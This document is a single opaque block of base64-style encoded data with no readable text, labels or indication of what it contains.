CcE8q+976TYOBS2s+3fUZICQifmydavR9k5AFDLAtB68sKxOgZMxvbe+425Os+lA0uZtm+md5TyGfJi+7ZGbOcEWyaDUsAitb4MKcLaZlW3HnqLIfiDnByEPP0DZsoa+rnmj6uEBpZTjDKrSBA8+xlXB4kFTzPar3nKZHBrcOiG9ipaOET9dB9MB9lbECbi0Yb/ZN9v2xrSTfQfBIojdnQkFzouK97XIlAn1zYj9D17Rz87QXMF8eu0129krMK5Bn+NS+Sqf4u2KF8GcRfN9dkTpNQSOMN6/+HnQnm+rjwwHf/rI8DPro9puRemc9gR4fy2LcUKZYaz0oOgXBeDip7L6XtY2FGLMGHPZXPOMY2Mh6UEhKRb47U7dNjYnBN3gbPp6ZL6a/GlyQcTeYDLwnisyJZCVAARX8jn8cPOJ6cDdT1rLsFGPDv8+PE1Z+3ooz/JCKx+CYO17KZvGfx4RhvZ3FbbM5Vr4Qchab7Oe4yaz8N9GZeVOP96tcwWmW8H2XOfTdz3l9i6rMP9IxcYnU/g3U8KTe9W9VwB7H3/NGmzaWE/WTvWDO61yclShZntOfefFG5RymdTNn8gI4QW3DQIzkNdyLUA69Ccrq4/SkzYXuxjlFIvhZBc3RfDNfxLFkGUVKcxgu2bKL7bsG2vFjvcihtzFDY9BoGZwA+zdxu66G6o2OV0SussQ0RTTro74Dq9Bm6CMG/uho2swyrmn+AoHPlXC5tdbqWjpDfbw+HFAG43B5rCbKHNfU8QgZirFpZKPbuMzqPYAxHG4PAcTtbl4LTQvpV8hBmprMsujoJcu+vt9Dos1cvAnxIIB/H8ME2YBE6ObS4AwT8k/Xu1QyEXZYerjvQhsWBtrcrxdomRRHnuT/phv6xTO6sevuM1j508+Vkp/OTCrwiZiv7mVMJULe8bUyb8K8HjSeQPfdWdd6NXxVyFtGavn7Vhxh7AHHgwqX7ghi2VZwo6LuVfR7IP0VweVOw1gC+eHCXPuyXOLM1Sl6oOWp0xO5RFHUq8fSzo3UFtblAOLFJA+ASWsIfSqKspUVB87GC0e4FQZ6s/1q7eCBG479Kl2iRBDMTm5k8snephCVv653Uxbo3WMjZEEpuQWCOfcCmeYO3v73HcuFfLV1Jmzlt9V3wMTtYfPMLRtSibPooKQ5aZlhdlFYo/ERuYD9zB47vcSeQIjFMiByMLGFN30obDukRq+qW3EybS4LZe+yU6P7T27XMe2ABbbZIiKisk17UsUhn5VJPnwHNw0eNKk0SVshaaRXnxhDIGiyuj+Rn2mpglbbqRZowZ+E8D8dxQDTlF50leAd9PGtg8zR9Y7Auzu0XXh3D+CGlthoz16Skuw05Z/VqK3vnbJRJLV5i2aPyTtXZdnvbTtHB5/4Uv12ph/V8HqZIAksaC2rd4cucPE0vs+RGKITuOBtLR1kq/xc8wZdy1OzFJDRyk4TrT/T0HSvBgcc4F501ti+YOjYnn7Qo8SlI2biby3PsRZlDve+n4l/rKnRW2W7qob2CE/m4J1yX86Eg8pdb6gdTuWgKSQk8RA7Gyaibpob6UxX1vCz2m8pg5VQxn1FCjIL4CAVDrxywPaXDCK9geau9Vl5jEWMm345+vmAaqD8wh0E7c6M7EW7HMDdGM9555rqsY6yHYHw921n95jMMjnFgZY25jT51oXIfZ5CH9MYyDueEe8Zjfi0Pa64xlErU5J+HVF1effrfLP/1jbFhQHJrJjYdiWMogjJx6YHhJDkLpkGUXRf5pSvx26QDQ7qERL73bOaemMizgjttftn1e2WuUfkSi6LfEJw4qix4551BEgrZHQ2uRv4D6E2v3e6z2Wfkfo97lYhs+dM+/0aYuPdlFnh27LwWDOQ9DLYy5/ViTri+HcIWhnhw53kkCgCUbNjVlh8ySL+Qb00Nh8Zn71mD7SU+DJoGDmLDjj2I4ef0CSv2WGbpKHXwRr6IJIEHKQUiDH1cW3jSsNBLjkzQ6R4hxSH/TaVK9uSK7XSvaug54/7RcuXk4fbG7jLqLbJUlhvMpgmE1g/hCidKq2O+oAOM3LFJZLNo7qi/Pokn0oD1zjSCdreKQyYtiQ1e5P6A6UuTtJr7GjSBv5Tq1GQu6KMPBRlu3vEUT/eD8XrmoBapxBi/J5ij9f0G/+q1LK+CEx8wjuOPfuWbCRbfVELTRiw8RJcMa1amJ0rDQMB/+VoVdj4IoDKil9bBTQT2OqIXTyS75CnjVvFaXWsbtlVt/AwBcy/TrM+v73TERtWCrZKzB2wYfaDgZPiOg9s26WuAAWUjSmTdoPc/ZyYIkiB7kkRDnP39EiCpO5v3+iideMqW52NA4ltfh3KHempWovke+/B1BIG4Od9nDkjWfdxodYFQ7SLFR4CNKXWpAv/1Aelb3e6uJEi+yk7fHwxS4i1gjsSkau1ZdXSJmXV/maZhGDsYZSNogWHKRE+D6suigUFNtSxoD9ESb9iNYvptBKaut8zBFsWvRcHVeCgiM43HiIzSM2f+L3GvO2QxmaWNb40Uo524olo8BTN5ouezImgYh70nOyMnpI/pOIo9/QiE0kLoE9SkagFusoWGLrvid5vnVnf/Jfy85nTkNHX2r91nC+zG4cgWIWXvhtTCN8QQXcCmDG7J1fVineh1Uf7FIbasfsKff9GvLydipqfZeUmF/lmeEiggj+ZV3PTRjr9ahvS+d1Q/unkJKHwicmV4/ezbHyOl8/lrZTuo5IKKiMntlE/nY7VIoB+7XmqrE87p70qo2/RfJBI0cFjRUU2GbD7VZdgezNepiEucvvOXPogdKsKb4X2l4/T2zJbVmw5KjRJzleoKHqZfTysSJni9b/NWSXGOEs6fxfgiEBNbEkj+yFtC81HXCsa7oykbz2SdW1end7qnaI7bKu/TmdaoR9CJ0IJfIgKOwuHVeX6ow2telgxVMKyyF4n8MY1F5H+Epu7UDeSh6bKdKxTtSejJKJ/hmcbZaKok/BZy1Wx6NC3LFATYzIGAx6LRLErsCzoCjIqXlhgLani+EvFFk3Elz1VQGWO2juKTcECaEFKTlMZ69kpab8Mx0xbOAjmsefwHJKwusfCfaM05pMtFW7HlRl3mSxDU0q0cBmAjIv6Q4zwBXd+dKktPxEp6H4qvd0y+k1PlCRAe8bGy2ambNCXLXxzE2TU7UdlsQkqD/x9M78+lzK1k1azZfB4zh9HB8chhEeWmBc6TEfrfs0BUP4YDUuHo1dEb4hSJN7+WZNfW3M0y74+qKdX5tfruq0SD9b+zEWQHEer4Gy8s/gEjykqzpJfNr310K6DbBOqcpqEoun8utSDBk7Pe8zHX3ceLU2lSsqeAP+9smD7lOJdDn6c2x25kmsytscGslhDQWRZEMm1TV5M+wLix9ncFjJdgpDQU/6XAhL0CDwevy0wV5chnvZCw5kVN82uZiJ1Ov5z04nDDYWvI99iiumdvLh/RAKKcSQwzemkF4cSMDTalYT7ec6StmBcTndwJxzsgSKs9D2zQouiONF68tIzM9s4eF5TDdlNEYuZu0/UVFdN2iHihmj+rk9efD+TIuzA+lctiwK4ky7p6C2+bKylaU13ERds7L8Nv1Sns5IRvdVWTnf+IQHBPfntMxxEPAUv9Z2XdPRkE90Cek0OSU3k2Hi9Af/IrMtvjO9aNRXm/EEI51DcrA9Y0M8Eyeo7bzpZkL6AdScuD+DnO6+MfXpheg82T92BryQmTZXTCzz3IF8osYzRrOPaGLZ6UqmBFvgYWG+CJK1T4CaDQKoPcKS3cSrjhNCnNTEkTlg21QLywEL/zdCQWc2gluTGyQ6XvExw+oPC1UlG4lPfaGkU2swgu/Y7zRkaXErQuG2KRTVySKmA4tSsGotPmhyd5O6jTeMl21PKiRv/ey29u9ZxG/6xSNKHe2yJw0SvHTY7D9jMi098ZkZ5ZqfSnZu+DsSocvgNt4pIFiPpoU+RGS1ToSjYzKBcHzBNCIjFvXSuXwWk0vExy8MSpfd5PxjUOtR7x2eWFea7Dz2UFOXAJusdgHEZ/Y3MUJjl5PGPcnZ8wP+tQ+3Oy/8qD3fxGnGerFYiLWaRKuP0lM5cfZC/Q7EZtC47jop/Dcz2ss0HKoYW9vN2Fi50bgAEtWETHsNtx6DXzv192G9e8APWN3VdqSqH1IOyMQP/UpmILMPjU80xvAKv0ODceCvM8O+WJpdPsLUQjPHxqWFRHvn2WaYadylEaQUCYq+ODuYm0NBOYV21k92yrqfYmHyG61fF6847xpb8zsxU5oeuyWi3s8pn3ML0oAJVi6TiNb5BInHihoc0ZMEuXD52XQuirJUKAACDDfbLWKy1oFyPcljYtGI/OKIRH6TPrbaP8T1BshlwE2z9iGlfiXS7JFWJGwz119nomSkXCn6MDKSkWIXZQ3+SFHIE4htoBtZTRn64DgFy8YLW/GkQL3TNBTdTG1VVzmTPmyEkrizUSX+htQBDLtjRBMu2FP/QEqAtC6wQEnsxdpDRsDP/5veRi2l/laPwyu72HmUAAiSi/FvJfrmAWDwAixjIpfVtIIDt0MA/bS5pz54SAumSfzfFp8lHEAJfTu1ejHKeAvTwq220iJCEQAZ2pH+Kpw0m41uOz5jO27VN2uOZCe+5ne2RvfnwWBGd0kSUkCbNUbUXmK/M4UZf3YI3gh1pVDUm4d8ufaxpfBbCAQgvpx4rNd9kfZzp0IJSw/Qg4oCuNyP/bGSi3V1TuQsftr52lAB+JWO4oDJP/lYkQDCHfuL5TOT5Ll3dn6JmATbho7vAzYHFX44NYXQ8WdBiKAwY718matVhR0wyncG5fHB4GbnN/ShSkUdjAqJ/EhxRf0kNiZRbmiOOGMqGz7xM4WwIkSH1EIe+KAFMaZLjZ2oKnmDXFAOa8XWo6e1qO/D2T1eDidKeh0hyE5WVFjAJXxfKUEZAj8HIY0q4DOfaVfkWJsZjwvSWjK12oceTsB6Dok7UiPjvM3uUQA3xa3KZi7YqxDqDvNV7w4ClLfBJpfUVVIwCJchulQDjnvvH0G/QgAGJHKqxdBOuJ8bQLThEoB16hTY+o5aJMSd+y/pcGaZIFfEAyrzj9hwAxQRCDE74hVwjYerS8iqReHsZXyUaRnZBg9+7LALWvF5AlbMNx3X34R6IHvAVo+3aud2VRb34ShnHdVyRVM18OG/+9tLjlT/CeIo+3XaQWHL7NwENr0EKUlzHo6Lfsz+kg3wljGNrZVInKbVt65ZRZnTspjgZXXuY5fIARsQn8Y7JSYbVjazRXi0KK8niDCCXAPWAHzzh6fUDa28TX1X9OYL2etdOU2OlQjnq1878rFr7PMRUQIpz5l4m084sjVk5QWTGqXSi9ec3aFnNbu6uu8ctzt2zR1l0TTofSo5GY2Z+7zjNL2XD4gWteHLz6jLCezkx57B0wpqzwKfA6QcOqd4H5x833nu7x/93XWnokuZdX+/E7D6WNZOyPPVp9hb4gD38QOnu5xF2hgQHEpqOg8U/Pm3/pLX+EsPTk7vlv3QqfWMwQfeM5D3gPMErnpaGH+NXxGXeiZ8UKnUE0UtnrzmO4B3gcwsiwsuNl0vGDZWNsLjizbTgJDVRJvWLVLpE3o0Xu+I/W8nZoS64kGvddOgpE8Eoy+q+phJCu3IYlbx4CT4rUZlguWQJOhfP7ioS31oQEULHco7Vca6YwE9ddlvu3l5wo3BSCtONXV1TKiY28eoqpe0JNNJmr152Fz+ZnmQoIhe45QErYMpwv7GnTbZGhXHWgbtul0sg5Awax4XN+iWVl1fCXkc5IobrW2UfIbCWCvQ8lOoMKLVIDHmlP3ST4Wne3qCXD7YJ4VVTf9LD75K48cE9jLsNFGnACHq5Pxyx4fgECGqJ+rjM3EIT39QfeVw+8/i7jVHY9JpBL9DSdabAnedYUm8on5wtPxvvCVNqk/pOZfnr7LnDHP8lCAL4aTMpGaIrYvjogPhsRnR9fE3xk7T/FaSggPRCMrh24kRrb18tSDUF8wGmKeCnI+NC9l/5pLeqDB7dIAt2dwPVsrFKjlilWA2EYM8jRg1xtSOZ9C8x6QIfEftRAw8Y9OfM/nawr+auBMequjF0dJ3joO7Knr6zrTGbZaRdKSalZoi2taehOo9qLcYZ5lbda0zBOyUld27eK+q6IfpONEYjWokAwX+5opLCDlAWwsFS8v/bvcSusUwpe+Rpdmzeo9hS1BIUJV5TSlaPFHFkbXWriMxxm5TMw2XUdW60WRGHc/CxHBiD4xref7b73DfC7yaxMwMwQFDgSnIOtf7BLiY6XCgvq6cK2CrHcq4YMXRriHJBC4lQ5c1Tn9AcQwXbg6j2VDXrkQN9nbQWARZSl9ewkUnNugZxgnCBxLpVYHMrpYbPuVeyEQrD1JnYSRrgSHOCZ0GkDfrqAo4FYKFGOfttc580NEdVzcMuBZ1hIbuiNC4UfrEfZPoYdSWsdcYLGUXz1fVXU/6JofNHVIlBQwtbCo8cI4t2MftWgl56ur/OlB7xuF5sj/Vhwf4zXTC1QR2DUYy6bsPc4DXZIZjvBTnYLuNKenZ8l0j7YDrjEzMthVAXY3+Vrnoi7P0pd7LRuum/j7iHbGmgLIIpTUUKBXxpO1ijx0B4loPkTSOWgOewA2XnHULy3IPFOTUYy1F0pCjUUKIEeUGkj/S4zT8BHtkzVWn5l47XJIUtDDCSIM4u+ymgYj3mp/AMC7T8Ms726znTvShuFg8wBDCEGHIvA6b9l4piL2gXqvnjIfprAgRaRmTpxjeF6H8BkM37MVo7NYaffIZESO41cWHrFSEy3m2hc3ASwEUXBkca7fv2Bah1ls1wgK6H+8p9YywAx9wJdLUGkvD7d0NaRcc0jAmIZIl23UYUH5OWpzNTKzvhjTpBae0sNskeFVMSOoYu1Bi/5tDiJejnEK9Nttj89MQLfTZNNDwFFCigv6ysn6zOOQY70oY965Y5RYitQICtzuSDhbCZilZmWXvVRRI1QDX3wRbepl7I5DZlq2AxlnO+iHEH8oA/Km4FBy8tSxhwuHIHy1e3hpInairHCh85X+Uv4iMgDUaBwDHyWo/k2w0JAW5PIvRk9PlgGcWY+Q5X4V4zqT/UXBpdIrfFX//3OMOx8DqliHV+rzJHDl1h0W7LUaCgCbYwp8lJ27Q8wFkB9HdJgFbcTAElUp+UbY9nSCf8JKgckqG+bhDzjYWKIgKB/51TeNWYGR1hFVHqgheqe0siiZ4hd59u4OvXCnScnSDrQ0lKb/O4kSJ2r0d5WC26qLX3642IhtRIbeFh5x/EwLjoVLhvu7Ot+78kAh26WUvmmIG9GpVx3hKqFie3BJJhBNmCeXngmsq/7kC/uE7ZIZJis6ei105ljK9bdFiPW4FavcvIBeu2+tzg9uQQToHAnFsGUhBjxm8VcjMcdxIxviYK8u7WgfZhMUyZQFOEGGpenQtphWmdpghznHgh03ObP4nwg3NTyVIFUipW78WHJN7EwbBUmZih3CMWDhIxrhCGThwWCvBqVxQ7F0JkBVqRWJ/naA6JBoF7/NZirkcqZORIqYsv3UonznsPNkzeCC1oI2mDIvc64VkfG7WM9hKUcO8Z9Fsdmy0xODhAL0sLMaV1NdGFE8/s9aEIoLjaKRIlrmu5RwH6e9klSl/iRcAGkUNoZD6NgqVfUEXM30yoZhYpCStXcCdxVdhmdJmH25BBYI5lJWXCbzd/bOvEKlHVG7hnPe+j1lWN912j9hHJzx/TyAv8jOhjQ4+QIwLj6E2Vj4ssfSPynWXu1QlghZNK2o28FUMb/FoaKaRtOfm0ZvsYZW85XPDSzW/w9DngZoiItj8myvd5ytP6rpGj8bj+948KXrby6wjW2P2S4z+li1cY+0uLPTBPjzBHP+dRGybIR3/8s2X+LhEoC6R9yAxFqbFZ6TeV8/l5+pdRQ5CzQy/SbP4dt3luOFtObMtzUaSD9K/PFkHkWlkZ/G82eHIe/bs0wVe+HHga9G0hfnCe/OduGPfQXocRuy6tYI+4SJr0DsAcsh/CKSYPN1ywXgL+GfMi8rf/QgEoojFjdxc0llgKwudt3k9nGVAOnKDF9IfQgopELc7o/NQXlyJieLtv0Cx5Lg6k/Y9pmK4mBF0GW39OWkDmrz0PQ8VslosYxOBsEUtOsE71zEgEU4MjQUkBu9AyHjXoFm7yH8IsfDO7RFDtPX1ktEPl1jrNeRpk5zmntt5kig99ZuiHP30jo13BUpyz62LrK+8CQiwIK2Rihjhk+Os11qE986zlvn9e1lNaxw3hbWeYSrF61N2J2QTjClLqAkM3phbPshX+CQEGVwu0vTOczocmPtA/7SUM44Ulx67j8Ugkj776TP/Cx1j68VyBdf5BvFg2D5XtbRM45G+yVYd2nzTR52twuK5wok4VEBdtZqvbAA+0ovsypf3XVlmg/K/hZy2CckJBxuQXX2fn+NbBygV607zVdTaoLVqt7D2gV+G6lde3jzNzE5MfrrnFceLYmKr6dzw9b97HD+3gZ/rReg+QrTZv8qUGoQNrvJGKPsUT4v/lK5I70Dy9EN4Stn8B5LTKAj3RaAGEzKgK7AkLb9l9A3AdX0BsfJDBUpzuYeYvKMW/VtSuFxZyxp6uJ09V6aHw3F2P8FIkapXLYkQOfmQNEqGfO1+iWky6jMbm/KeiE05qJWFVGWrplpLzUJ+Qi8Dbslwga25wha82JBpeDXkj+Gp0g8tmx2AKUKThmVsihO8gjhD9iN4P/+mxWRX4iJQDF7TIjTaDGYtcpmm5shC1Pf/HJs1rJhfW7orNhMCIm4ICnO981fXd3/i+akyrPpwcOpyd1TTyXBC9GtQzlhnEmaArQND6P/JPIG44iLIwKdwU9HKcEUnGWVLVjy8aF5N/Kpu3NrKGsydZVfOsguMbGkJmGC+Dlj4iAZnbt+0nrWIFzMbGYXKo8aebg6TNxzjbhdePbiXcr799rgLmaTOW6yx3+CxXpqs/bYq78yIPlegZMOoC47UK6h7L5NFIRuPtAoT2aDc/KlEYZ8clJRDtEUU9gJXVta07uqcdd4XO1OXs9Cz4I5ifhH1HOOC6L7mOyJs68Ce481DobSoQeu8OhYyfeCObw2FybQ844qjhJdX0Km8A6S7SA0nq50Ro6YQvKnHRZnxj7ZLZ2D6xdk2/424wE+TZkGd10k+GwbOTq/iotp2TKlrOjqIyxPcYOYHZKULSy8eIYB21f+WEIxT3fwucJ5TB8PvWsRKITxIaZjt5tvR6SYvzv40XNtZReU540JrhKTWbSgWnwGSZEAWfHSjK+9FvhDTd7HRCCzskMylXh0uQ8KiXh50g8BpuCDF7eyDQjkbfAIio73olxwYpon8GmvyhNLYhWSleKusuQaPSJrvPvRFc2Aaww0sdIkYT8c0kst3RD5AtOtwZfo1d0mY8vTrmaXkFQlj4YvtrRdsKzTSmHCtkbGs2JJ5DENGJb8xgW+ZQSPBLhs3MW/QP9FKhqdRkFRfYvj8sSJ90RnC8xQpEE+DfchvM6U41WzzMasVaPK3E33zJx+506p/NSfZmxbPR906Ih7OBtDmtlCbSGrzF+tnuuSoAv8P64VI/PFk/8fKTm6Ll/gYYQxQgKYirf26J6Mporz3jV7+7y4QyYbi934g9Tj4X2bLxli72kAQT1jbb5OD8V0+ZgiQUEx7MM4USWj45VStlXn3x3vXPQxs4NcrkGkYglK6Jt79oK+62vsI2qY957CEz9YMRgjJ9q6lOAhcejxq5qFxaW6B177YQ6Z5PQNxAE7HwYJlPI/cKF1KYw4Vz7CtOgCwu92O8Mt4vZNog4twDRnTg+docjVWN9vQL9XYfypacwajWfWapBZx+q2DLhbrDbS1H0jlYLmbuLyeEeTiDmC+cnlLK2Qdx2InShkcFj1KiVooQI0CzFWVKlUg/EKaLIf7NBuv7CuyQx7QaGLdGXzPTBbDUBCtyLWz0bbHFK2O26CrWk13TJ4L8N3epsK/Gwj3b6a7mu9Uot+7u+52+EypfbyTElwLhrfXX6ZMWrh+/L6D75iwAjMfeOhAosDABXUEkQtmtH0N3/fHV2tQ1jbaTcaxmnoE951Fb/4cIT3fTaAY7VRuKVy+Dg8DGJh9xopHLTUkTuyPqMK5TWFFbCp1vz0oRMU81gC/Zly8aSLygzdK7DrGDCy0/rgjjYq9sBR1fPwmq2rl0GekZt0SENDE/3CJY4r6SVB2+6VRkDcjlQxGFL+JGparrKrX9RP6so7Hba/sVs4L1XRSIJhOaws3O/6FYc0FLWqlsQevFVD1t4ZJ/AkB7n3naCgnrYz2KzIbfsf/cnFIpi6rf/WBG+jyuA/lDLOhR63zlg5ujtavcgqJimJC3lZKg956UeIGrhx+sK+/K6Sc/6m+4t9K1jAY+TXT5A6gRikG7VA3g1PkxHgrNbruz7DH7oJ4pXNrhmat24qjFwON44wfSL50DxGFllGULaCljKcJXrEpDbiCE3p4L7OzabYHcMqzTN1shWISEpuoLcE6+uCgnn8zUoRxzK2SaYPhNFhO85YVhkvonTJ6FgFlUK6L1sheFQMfrW1JsFwKCU2QDHNxnff1OgIga64RjaajZcQ9k4hS1yQ/jXt/q39ai/2evV81Gi9JMuLtdQMHF6OrXDUDzfh++PUl25O2Yn0JzGHJcNQV0eu8/oF75DHIrUbj98Sa4QyHBTCfaBcxZdhUp7nT5VpVKUEC5RGL4CgrOBvBPQAt1LUOK4wpeV53AlNAVT8LV5KGB5NBwhZhuQzVGTHwU+ZwZuiahhsiQQo+eETNzHl8DbA3atW7WnvLX27FouUnK+vgLk0KLdG4xaWSW0NsFooIvmpRqzLsDXpo2+nUXY/H3vVQb5n15wvpT3Wu6yzpw5MxkCrYW6hxXd2Y8hRUNodecesUHi13/3dVRZYZI1HfSP46AbfaUKgGlaylHLF8kc/QZ/6jXOXfGLut6H88Q/Fr0mFTu2lvvDdle1quwyp0KsJkOtiL80OnXlRMQwuBGwB99r+5F7SqBuTfxdsLb+yD2LLu++aARV7WtQyFMCnFApdVvcvuxp4qXQI5dglxKkF8WaIHPCNAAVpMQqWe5zZd1Ycs+4XmaogNnucAX7NKpwUSffq3/tUuomG3FJ9nwpxjQqpAs1nV4EQbykcgfaUWKVqWX8p/TiK+ZcPl4M+lxm85XljGsRr6LO6hPOQ3zmpaQ2KKcwanf5ITdx8veJHr+WpewwS6KVUYW87AkdYLydO5BXoSMLgzDrpHIM/ZQBKpnk4PqCbdz4Zd+CnmM0M7OoALXM1wGCBHn/aHdX7cUmMUoNKowQnKFJiVURudmsc2KTrbT4qtjE2ju/bfKUcENR09NAer8XGAzpmhchVkaTuAWefvBX9BU06gT8rNIiLmuk54b4GT5P3DpaJ7k6WjIqD7Mpbn6Eu4+o8iaO7+IxObRqc83OJGqWw/Oexy9IqnLItVgsGi5hEyP2dQT8DbfiNJIn47obDrIwP3yAgC+5H/dCXenZzfSKv+rW8nvDpUhL1uv5PLKDuKG2loydhlaFsts/BwEkzry06u4dNTFjL2MDhVgKEL2a6yOWuFNxnua045/4BUS/NOw1fbFDqiSbVkjVx5KSR5posF4H6EQTOIyynR/bYwzXLctcgYjpLnkYVQjvqotN/nxP/S7mf6wotjEPAWTcc78/Q2Ujz3dkMW4aKa1N8ojhQRvc1p8g4WGfyCP3qfMXltRMVqSqWO9m1DG0QWHrJQnmd6itg2gAThucggWjx+0XYYNdQ7RWD3WsFGbCMxe0b1QK2Q+T6zmiHXj7oHeauTU+tubVLM+rAxHAfALznati97Bb71FTN3Lssi300uM4QZ9BeKn6+X2cyvhMuPfSxx4r2+oR+ayCk56+KLHeFKDj/MqwCQUYsXylpL/qPI5cCcmcCKsvU0nFifguC/0t8sktQTQm5HD8C7qhowZ0/MMopfCRQeyv6Z30NAuHS/HfvSA8LDyuvS9/4lIsHGrunshqpUUKS2QvdV/V9Bxgl6gXmeGK8H8WaC1q/VLB2VdWrgmVIN2UChHN/vjs1kCEJeBREx2dXQwpoc86u4gjblyRqQHrr3lMV1VkfzNIXwN7P7Lvuprgkb3hW1rnFFnXJUP1VBlTIkLFOkEcE/tQhfonCXKpCIFWESXGhGhiUZigL91hGzEuizqmJJKz74fpCqAg2HDBqicfGX3qSHka+ZZ43Pjq0Wo4utm+P+Ze6HZa9ysBMBiousJA5sIIFaeaOHoye8m5UthZEfvqrAA+1s4pTtwaZBWwr+Kd8+x8CQrVyMgBIN1WVmQKD/ydrY4pBbPO4OpjY47Ukbg9efsW1kYHQ4wVlWWRU6h3wU1jTd/f/aO1YG4EOnj6nYeu9PPZwi0rE+aNvVpcDG9rjMJTvgwpK/j2nSMN76sDyoODzl61ndGQ128XD9LclcUBj7FLrQ9PCn3MD6CwWOF891I3arPvk2Zv2ecUG3bggT6nUkK8ZmVbdQLc0xJTxB+UMA1G8iebaOzTvdgoMdi3l9Lfje7E2z335gHve+FrfmCqYXNhP8JXx2yeVzfBdBuvQfG5w1kxlr1lVlCqfR7VpD8lLU3QZ0Xb0HwGZjyrnldlIb7KuT3Mt4mgVESSg5xBBO6r3uiC60e2GlpWCKA1DmsxVD6fjSEuict7Er9nH5jWGxdI7uBdqeb14pQyL6Lt9CZDJ2vCBx5SAYHGGsm2PjAg+Ymm/Y3k7DMfyP+Dqv0r9NJrfRG09OFoNbO4JssFmgYlYfolZ9+HruuC5B3MJI5WEkXVdB9L0TuU9vt8EHSvawHT/k4rvyeswIE4c6IutWS2KL4f3xgciNOoI5ttzwiTrBSDcZTt1c9EHBPxZMzTZSHzhAlYfNKC3tG9lvL+MWRhBoTIf2hqR4RvIoVYVCDgIrWzRsRari2RJ3xh4oxRlbo/At+7dggMXQIYnzoOw9FfpjnhcTJgkypv8sxCZ72x4CyPxGfWFVj5sIbcX2G9H1U1gRrcC1HgoeLM3wCZqq2wNd8fahWlp4PrdubBFuKDfPFDdORQGe4tan/byYG9hswayNjopm84aYttGlcj5jRxmLh6iLPaKRtzFRg+yCDgpTk10/6m+CgXEbC9yc4OU68hEagfeZAR5+WEVBKOfF3BaPTpclv37bvdS1kTjlFkxS+N+WH3M28xp09cYqQd8Sw+USoffttczQ9DIDCH1TWDoNcmHqQ+WjCG4JwNsXeaH8+ecaxu9EESk7QktQiy53F8dRCmT5QTk5nFjnnzvjH2rvVvqK6jQlPKIWagJz7HG2lN+qY4WNpUWnLoudjEpccOIpjpR+HOL2qDbNPHV9gBTKdr7JDIm4uIEs/sqH6mDQ0q8D76HMvzwpB7f2JjT3rCT2B+DG3oiHwUcxWQAbYCQAxBAHxBgG5jLCtKV/cw/ya9R6Lkqbr25h/rcnGXUorcMtE2BtoGQNdI8Uvj06zRVyv/7s+XfpRL+3AZQVHJZuPuNSA2JR2T00qm6XkEfQFMzHymH0Qb/U28HekXEzUWMulSkULPIZWp8M9FiLr042n6VoRu+QXm96CUS1LZw2zD4T5IdCCL51X6lko1JQXHZjlLsd1p+63QdcNMWaRt7vrZBhv3xS9R1XzcJ5GA7LAnAbgt+4pAhrRHJ3fxAYTSeT29kWCj+wybLobM5fCDg6+JSc+JrEOhsFivw2PlxPZawEBqnbXafd9LPNYXppGKFt/TXqM9TRVHQpWCfl7jGpg8pKKo7HsoPk5kaFKUceHcb19f4oHBOnOMk49qm+jEIq0PX+wn1GRhZQaaDf4P3+GaNkdmWP31/KFzie+5/hx6tkX73AigTQVZG2r83NGYa50iAVaOGS7HWH5iZg4oLnuoLsWfMwI6fiKQyejw5Yyo2Q/QEc/cxUmOgLgTeyuf2voJNaTQl8iqylUryz/la8Q26a9GnWE+dZMduKL42T4M6orue87LNcJ9Iie660Ok+Pdk2fLsVw63y18e6UqexbZvMKXgkAQPQfd+3JqWBC6ErPPe2uY9HEZMkpkS3MmG11pje1NJ/UlgVRaP34Eh7N/rEBpU407Bh3Vx+PlT6r82moMgr8BUVOS5ZNVsmPBLW9UUw4VC64nJmMjw9dQCA1Vz/EGro4x5bTACEjwd2rbfrp/dq6AAX+FORRjey606WTewpzVrLT9h8SpgUqRueGcZ339QQ11Le5xsLOhRK+Y1uLja4g/6/4KHJhuCunu3cZyrklDtukrReT5Ff14DBMMyuKgAdbwhl0UiCbYYWNtlp0wSHH35r/iUPpOij/xf65kf72hnhjPFpBGRRR8EAj+twt7O6plmcCMFkjuMX3QszFVXp3NS+lRfDylRzb6XNJg7DmzTxE7HqsFJEb/FLXOR13aQLHcjw6DWy3UjVX0oWUm2dF09Z8R3d5nU2zWJJam5y6AXNehbEX0k3P7H5RsAJ0IanJmze4vm22C+SQpf3Jn9S9QTFbS+tZnyIw+Vj0awek5ZOiaHOiLn4Y2v4It3AjyvxGudE2Ha1WJqMdV8s4KOs/nndtu7FG1everLS5+sV3EcaEcH0K5JxxXAG/lfnnwqkzTiyqq9a/Ev9WHobCnMnGQKECzwwjz2xrWzrcmWuswIqPfIqjNAsonIPkDHi/qiDaAUdL9XEiLa+4w9XoSb72OoD6DYwkKp2DGvQ6905ykWydRwinDULT4HqLz01zWRFRDX0oNroAsMbaNhMkjEIsX271xCLx2IYVlKad9CGzWGOz/UaeefwyH3O5zJNc47HaCssH030+9DmtgvZtxyznv9w8TDXKmdGt/tsWqswo4BLENhRJTDltoIxjafksfbgb+x2dJ06UdBAc0Nu2j3c3lW6OQz+oXhpjRrda4js1Yd7pO4xPvhxlI9sOGpoNVqIJu23xXeWB/ee6n4SSIqRCx6z5sL+BzSvPVgEsYQw6uCSCjh1haG9j7Wi5ZYfQqUEYMeFkhfhlJJsyEboPC+oh4fueENEZ/S0nAuv8REOfK2+tIBqGFxfmwLbqQKbN5qXENMFjfU/R2qnMBWp66NEXsN54mP8/6lqFrtQ8Zt/ajZd1nE6gBXb5MnE1rXKM0wDYTTX8FWTffdbURsjVdcANFfA+LMfvdXHTPyg+g4w2J0IlgWddxNr0AZceKAA9Oy8PVLG09dcEwFh96GBEp2IMd7M7QfnkRBC4/MtyuR0Xw/tsDelhvepAN7QUZ4l7a2c2/Nv0OP8jqEbcHwe+pCTCMAJ82Y+CZ+iLgmcbjDeeUXYSnQVb2wSXXdlvK0jorQzT4jjvjyMbnx3ivLstVLX3ru+2xvaud18kA46bedz27DGEOnWHQ62urx2PjQhuOthXopGoBkQQtDL+kK8apEs4TbHJw+gCJ7M3hW5pRBgpyzVUw3kiqa0mbK0km89NEKvnLhIy7WSHF/VHpFLAuYGGSEOoiCln5bOPYrHPhhu5tEM+kg0LhlC1AniVwCrr3tffbPxBS4BYiXUqwZeTGQ6hQgFUde5vSRmZxmp49nX08hCKHhCDqeO3AeMT0Sdw9+PwOsgk/rwHVEaF9Rp/LT7v71NJ4tkVt5P4KpyEyrZEA6Ha3ZHIh/ylsdjA9i7NsYz1QXEXpElGV5XwcimygEgzSiz4cWseUFRayo5befhToOuJ6Vhz9iymDE6XMXYBLY3LNoOUjztrdsSZs7fB6v50j9xyvpduN1sgVhLEcJLx8ftt6m7itrI8ZAKmT/4f5JEI/IYW3Fc95RD5c+3/9XlGUK6vbBh4ffIDQkZ2vSYKJAEiqackcnp3X